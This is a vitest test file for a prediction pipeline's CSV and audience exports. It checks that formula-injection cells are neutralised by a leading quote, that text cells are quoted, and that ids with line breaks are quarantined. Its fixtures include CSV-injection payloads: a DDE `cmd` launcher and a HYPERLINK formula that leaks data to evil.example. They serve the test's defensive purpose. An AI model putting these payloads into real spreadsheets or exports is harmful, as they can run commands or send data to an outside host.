/**
 * Safe exports: customer ids and product names are data, and audience CSVs and the CSV export are opened
 * in spreadsheets. Cells that start with =, +, -, @, tab or CR get a leading single quote and every text
 * cell is quoted (OWASP's CSV-injection guidance), unless output.csvFormulaGuard is off; ids with a line
 * break are refused at validation with their own reason.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { exportAudiences, exportCsv, publishPredictions } from '../coordinator/publish/index.js';
import { JobFileError } from '../core/errors.js';
import { compileJob } from '../jobs/job-file.js';
import { runCli, type CliResult } from './helpers/cli.js';
import { duck } from './helpers/preprocess.js';
import { csvCells, parseCsv, publishOptions, sampleNight, withTempDir } from './helpers/publish.js';
import { TINY_DATE, tinyJob, walkTree, writeTinyRun } from './helpers/tiny-run.js';

const FORMULA_IDS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`,
  '+1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(A1:A9)',
  '\t=1+2',
];
/** Not formulas at their start, but a ';' or ',' separator would start a cell that is one if the cell were not quoted. */
const SMUGGLED_IDS = ['semi;=1+2', 'comma,=1+2', 'quote"=1+2'];
const LINE_BREAK_IDS = ['line\nbreak', 'carriage\rreturn', 'both\r\n=1+2'];
const TEXT_COLUMNS = new Set(['customer_id', 'product', 'action', 'model_version', 'run_id']);
const FORMULA_START = /^[=+\-@\t\r]/;

/** Checks a guarded CSV: every text cell quoted, none starting like a formula; returns its rows. */
async function guardedRows(file: string): Promise<Record<string, string>[]> {
  const text = await readFile(file, 'utf8');
  const [header, ...rows] = csvCells(text);
  for (const row of rows) {
    row.forEach((cell, i) => {
      const column = header![i]!.value;
      if (TEXT_COLUMNS.has(column)) expect(cell.quoted, `${file} ${column} ${JSON.stringify(cell.value)}`).toBe(true);
      expect(cell.value, `${file} ${column}`).not.toMatch(FORMULA_START);
    });
  }
  return parseCsv(text);
}

/** The value a guarded cell stands for. */
const unguarded = (cell: string) => (cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell);

describe('a whole run over customer ids and a product name that are formulas', () => {
  let dir: string;
  let run: CliResult;
  const plain = ['c00', 'c01', 'c02', 'c03', 'c04', 'c05'];

  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'nextbuy-csv-'));
    const customers = [...plain, ...FORMULA_IDS, ...SMUGGLED_IDS, ...LINE_BREAK_IDS];
    const conf = await writeTinyRun(dir, { customers, categories: ['=1+1', 'k1'] }, tinyJob(2));
    run = await runCli(['run', '--account', 'acme', '--date', TINY_DATE, '--conf', conf]);
  }, 120_000);

  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  test('ids with a line break are rejected as customer_line_break, counted and quarantined', async () => {
    expect(run.stderr.split('\n').filter((l) => l.startsWith('nextbuy:'))).toEqual([]);
    expect(run.code).toBe(0);
    const runDir = path.join(dir, 'out', 'runs', 'account=acme', `date=${TINY_DATE}`);
    const pre = JSON.parse(await readFile(path.join(runDir, 'preprocess.json'), 'utf8')) as { stats: { rejected: Record<string, number> } };
    const quarantined = await duck<{ cid: string; reason: string }>(`SELECT cid, reason FROM '${path.join(runDir, 'quarantine.parquet')}'`);
    const byBreak = quarantined.filter((q) => q.reason === 'customer_line_break');
    expect(new Set(byBreak.map((q) => q.cid))).toEqual(new Set(LINE_BREAK_IDS));
    expect(pre.stats.rejected.customer_line_break).toBe(byBreak.length);
    expect(run.stdout).toMatch(/customer_line_break \d+/);
  });

  test('the CSV export neutralises formula cells, quotes text cells, and keeps every other customer', async () => {
    const file = path.join(dir, 'out', 'exports', 'account=acme', `date=${TINY_DATE}`, 'predictions.csv');
    const rows = await guardedRows(file);
    const customers = new Set(rows.map((r) => unguarded(r.customer_id!)));
    expect(customers).toEqual(new Set([...plain, ...FORMULA_IDS, ...SMUGGLED_IDS]));
    for (const id of FORMULA_IDS) expect(rows.some((r) => r.customer_id === `'${id}`)).toBe(true);
    for (const id of SMUGGLED_IDS) expect(rows.some((r) => r.customer_id === id)).toBe(true);
    expect(new Set(rows.map((r) => r.product))).toEqual(new Set(['any', "'=1+1", 'k1']));
  });

  test('every audience CSV is guarded the same way', async () => {
    const audiences = path.join(dir, 'out', 'audiences', 'account=acme', `date=${TINY_DATE}`);
    const files = (await walkTree(audiences)).filter((e) => e.path.endsWith('.csv'));
    expect(files.length).toBeGreaterThan(0);
    for (const f of files) await guardedRows(path.join(audiences, f.path));
  });
});

describe('output.csvFormulaGuard', () => {
  test('off, for machine consumers: the values are written as they are', async () => {
    await withTempDir(async (out) => {
      const [p] = sampleNight({ customers: 4, products: ['any'], seed: 3 });
      const ids = [...FORMULA_IDS.slice(0, 3), 'plain'];
      await publishPredictions(publishOptions(out, [{ ...p!, customerIds: ids }], { actions: [{ name: 'all', minScore: 0 }] }));
      const where = { outDir: out, account: 'shop-1', date: '2017-12-02' };
      const raw = parseCsv(await readFile((await exportCsv({ ...where, csvFormulaGuard: false })).file, 'utf8'));
      expect(raw.map((r) => r.customer_id).sort()).toEqual([...ids].sort());
      const audience = (await exportAudiences({ ...where, csvFormulaGuard: false })).audiences[0]!;
      expect(parseCsv(await readFile(audience.files.csv!, 'utf8')).map((r) => r.customer_id).sort()).toEqual([...ids].sort());

      const guarded = parseCsv(await readFile((await exportCsv(where)).file, 'utf8')); // the default
      expect(guarded.map((r) => r.customer_id).sort()).toEqual([...FORMULA_IDS.slice(0, 3).map((id) => `'${id}`), 'plain'].sort());
    });
  });

  test('the job file field defaults to true and takes only true or false', () => {
    const job = (output: Record<string, unknown>) => compileJob({ ...tinyJob(0), output }, '/jobs/acme/job.yaml');
    expect(job({}).output.csvFormulaGuard).toBe(true);
    expect(job({ csvFormulaGuard: false }).output.csvFormulaGuard).toBe(false);
    expect(() => job({ csvFormulaGuard: 'no' })).toThrow(JobFileError);
    expect(() => job({ csvFormulaGuard: 'no' })).toThrow(/output\.csvFormulaGuard must be true or false/);
  });
});
